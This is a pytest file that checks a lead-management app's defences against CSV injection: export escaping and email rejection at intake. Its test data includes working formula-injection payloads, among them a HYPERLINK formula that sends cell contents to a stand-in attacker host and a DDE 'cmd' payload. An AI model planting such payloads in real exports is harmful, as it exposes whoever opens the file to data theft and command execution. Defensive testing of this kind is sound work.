"""CSV exports are safe to open in a spreadsheet (OWASP "CSV injection"), and intake
refuses email addresses that would start such a formula."""

from __future__ import annotations

import csv
import io
import uuid
from pathlib import Path

import pytest

from api.csv_safety import is_formula_like, safe_cell, safe_row
from api.exports import result_row, results_csv
from api.file_score import score_file, scored_csv
from api.intake import parse_records
from api.intake.normalize import normalise_email
from db.models import Lead

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3",
    "=1+1",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
    "\n@SUM(A1)",
    "\tplain text after a tab",
]
HARMLESS = ["Acme Heating", "O'Brien & Sons", "a=b", "1-800-HEAT", "", "Zürich"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_gets_a_leading_quote(text):
    assert is_formula_like(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_written_as_it_is(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [42, -3, 1.5, -0.25, None])
def test_numbers_are_not_text_and_keep_their_value(number):
    assert safe_cell(number) is number


def test_a_row_is_made_safe_cell_by_cell():
    assert safe_row(["=1+1", 7, "Austin", -2, "-2"]) == ["'=1+1", 7, "Austin", -2, "'-2"]


def cells_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_results_export_neutralises_every_text_cell_but_keeps_numbers():
    # Given a lead whose file put formulas in its name, city and email-less fields
    lead = Lead(
        id=uuid.uuid4(), csv_index=1, company_name='=HYPERLINK("http://x.example","go")',
        website="https://acme.example", phone="+15125550100", city="=1+1", state="TX",
        status="completed", score=-5, tier="D", error_message="@SUM(A1)",
        outcome_reason="\t=cmd", stage_outputs={"qualification": {"reasoning": "-2+3"}},
    )
    # When the batch results are exported as CSV
    (row,) = cells_of(results_csv([result_row(lead)]))
    # Then no text cell starts a formula, and the values are still there after the quote
    assert row["company_name"] == '\'=HYPERLINK("http://x.example","go")'
    assert row["city"] == "'=1+1"
    assert row["error_message"] == "'@SUM(A1)"
    assert row["outcome_reason"] == "'\t=cmd"
    assert row["reasoning"] == "'-2+3"
    assert row["phone"] == "'+15125550100"  # text: a spreadsheet would run "+1512…" too
    assert row["website"] == "https://acme.example"
    # And a number column is written as a number, negative or not
    assert row["score"] == "-5"
    assert row["csv_index"] == "1"


def test_score_command_csv_neutralises_names_and_cities(tmp_path: Path):
    # Given a file whose names and cities are formulas
    path = tmp_path / "leads.csv"
    path.write_text(
        "company_name,website,city,state\n"
        '"=HYPERLINK(""http://x.example"",""go"")",a.example,=1+1,TX\n'
        "+cmd|' /C calc'!A0,b.example,-2+3,TX\n"
        "@SUM(A1:A2) Heating,c.example,\t=1+2,TX\n",
        encoding="utf-8",
    )
    # When `sales-agent score --out` writes it
    rows = list(csv.reader(io.StringIO(scored_csv(score_file(path)))))
    # Then no cell of the file, header included, starts a formula
    assert len(rows) == 4
    for row in rows:
        for cell in row:
            assert not is_formula_like(cell), cell
    # And numbers stay numbers
    header = rows[0]
    assert all(row[header.index("score")].lstrip("-").isdigit() for row in rows[1:])


@pytest.mark.parametrize(
    "email", ["=cmd@f6.example", "+sum@f6.example", "-2@f6.example", "  =x@f6.example"]
)
def test_an_email_that_starts_a_formula_is_no_email(email):
    assert normalise_email(email) is None


def test_intake_rejects_a_row_whose_only_route_is_such_an_email_with_the_reason():
    # Given rows whose email starts with a formula character
    result = parse_records([
        {"company_name": "Formula One", "email": "=cmd@f6.example"},
        {"company_name": "Formula Two", "email": "@SUM@f6.example", "website": "two.example"},
        {"company_name": "Plain", "email": "dana+sales@plain.example"},
    ])
    # Then the row with no other way to reach it is rejected, saying why
    (rejection,) = result.rejections
    assert rejection.row == 1
    assert "invalid email '=cmd@f6.example'" in rejection.reason
    assert "formula" in rejection.reason
    # And the row with a website keeps its lead, without the email
    by_name = {lead["company_name"]: lead for lead in result.leads}
    assert by_name["Formula Two"]["email"] is None
    assert by_name["Plain"]["email"] == "dana+sales@plain.example"
